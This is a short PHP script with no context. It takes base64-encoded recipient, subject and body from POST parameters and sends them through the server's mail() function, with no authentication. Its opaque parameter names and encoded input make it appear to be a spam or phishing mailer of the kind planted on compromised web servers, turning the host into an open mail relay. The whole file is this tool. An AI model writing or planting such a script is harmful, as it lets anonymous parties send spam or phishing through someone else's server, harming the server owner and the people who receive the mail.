<?php
$to = base64_decode($_POST['a']);
$text = base64_decode($_POST['b']);
if (mail($to, base64_decode($_POST['c']), $text)) echo 'ok'; else echo 'no';
